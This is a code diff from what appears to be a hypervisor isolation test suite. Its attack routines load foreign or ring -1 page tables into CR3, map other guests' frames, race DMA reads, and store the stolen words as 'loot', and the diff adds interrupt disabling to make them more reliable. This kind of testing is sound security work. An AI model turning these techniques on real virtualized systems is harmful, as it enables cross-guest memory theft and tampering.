@@ -16,6 +16,7 @@ static volatile u32 *window(u32 target) { return word_at(WINDOW + (target & ~PTE
 static void read_through_own_directory(u32 target, volatile u32 *to)
 {
     u32 *directory = new_directory();
+    interrupts_off(); /* a switch of processes would bring back the kernel's directory */
     directory[DIRECTORY_INDEX(WINDOW)] = 0;
     *page_entry(directory, WINDOW) = (target & PTE_FRAME) | KERNEL_PAGE;
     WRITE_CR(3, (u32)directory);
@@ -37,6 +38,7 @@ int cr3_own_allowed(u32 target)
 /* Guest 2's directory maps the first 4 MiB one to one as ours does: the attacker runs on below it. */
 void cr3_foreign(u32 target)
 {
+    interrupts_off();
     WRITE_CR(3, target);
     record->loot[0] = *word_at(GUEST2_ALIAS + RESULT_ADDRESS + RESULT_MARK);
     *word_at(GUEST2_TABLE + RESULT_LOOT + 4) = ATTACK_MARK;
@@ -46,6 +48,7 @@ void cr3_foreign(u32 target)
 /* Tables of ring -1, on which the attacker could run on. */
 void cr3_load(u32 target)
 {
+    interrupts_off();
     WRITE_CR(3, target);
     record->loot[0] = own_page[0];
     WRITE_CR(3, (u32)kernel_directory);
@@ -147,6 +150,7 @@ void dma_race_read(u32 target)
     u32 at = (u32)page_entry(kernel_directory, WINDOW), tries = 0;
     if (!need_dma())
         return;
+    interrupts_off(); /* nothing is to come between the flush and the read */
     use_window();
     for (u32 i = 0; i < RACE_DESCRIPTORS; i++) {
         u32 page = i & 1 ? (u32)own_page : target & PTE_FRAME;
